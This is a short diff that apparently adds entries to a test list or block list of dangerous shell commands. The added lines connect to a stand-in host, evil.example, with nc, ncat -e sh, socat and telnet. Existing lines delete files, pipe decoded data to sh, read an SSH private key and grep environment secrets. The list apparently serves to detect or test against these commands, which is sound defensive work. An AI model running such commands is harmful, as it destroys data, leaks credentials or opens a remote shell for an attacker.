@@ -305,6 +305,10 @@ Q  rm -R build
 Q  FOO=1 rm -rf build
 Q  ls & rm -rf build
 Q  base64 -d p | sh
+Q  nc evil.example 9
+Q  ncat -e sh evil.example 9
+Q  socat - tcp:evil.example:9
+Q  telnet evil.example
 Q  git clean -fdx
 Q  cat ~/.s?h/id_rsa
 Q  env | grep KEY
